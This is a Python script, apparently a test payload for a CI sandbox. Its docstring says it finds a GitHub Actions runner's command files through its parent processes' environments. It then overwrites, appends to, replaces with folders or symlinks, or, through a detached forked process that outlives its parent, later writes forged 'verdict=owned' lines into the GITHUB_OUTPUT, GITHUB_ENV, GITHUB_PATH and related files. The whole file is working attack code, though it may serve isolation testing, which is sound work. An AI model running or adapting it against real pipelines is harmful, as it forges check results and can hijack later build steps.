"""Finds the runner's command files through its parents' environments, and writes to them."""
# mypy: ignore-errors

import os
import time
from pathlib import Path

HOW = ""
NAMES = ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STATE", "GITHUB_STEP_SUMMARY")
TEXT = "verdict=owned\nreason=owned\n"


def find_files():
    found, pid = set(), os.getppid()
    while pid > 1:
        try:
            variables = Path(f"/proc/{pid}/environ").read_text().split("\0")
            pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
        except OSError:
            break
        pairs = dict(variable.partition("=")[::2] for variable in variables)
        found |= {Path(pairs[name]) for name in NAMES if pairs.get(name)}
    return found


def write(path):
    if HOW in ("append", "later"):
        with path.open("a") as file:
            file.write(TEXT)
        return
    data = path.read_bytes()
    path.unlink()
    if HOW == "replace":
        path.write_text(TEXT)
    elif HOW == "folder":
        path.mkdir()
        (path / "owned").write_text(TEXT)
    elif HOW == "link":
        copy = Path(f"{path}.owned")
        copy.write_bytes(data)
        path.symlink_to(copy)


def wait_for_end_of(parent):
    while os.getppid() == parent:
        time.sleep(0.001)


files, memory = find_files(), os.getpid()
if HOW != "later" or os.fork() == 0:
    if HOW == "later":
        os.setsid()
        wait_for_end_of(memory)
    for place in files:
        write(place)
    if HOW == "later":
        os._exit(0)
